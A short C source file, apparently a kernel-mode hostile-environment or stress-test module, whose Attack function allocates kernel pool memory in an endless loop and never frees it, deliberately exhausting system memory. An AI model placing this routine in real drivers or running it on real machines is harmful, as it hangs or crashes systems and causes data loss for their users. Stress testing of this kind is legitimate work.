// Pool until there is none, in all sizes, and on.
#include "hostile.h"

void Attack(MOMENT_OF_ATTACK *At) {
    (void)At;
    ULONG64 bytes = 16;
    FOREVER {
        ExAllocatePoolWithTag(0x200, bytes, 'tsoH');
        bytes = bytes * 3 % 0x1000001;
    }
}
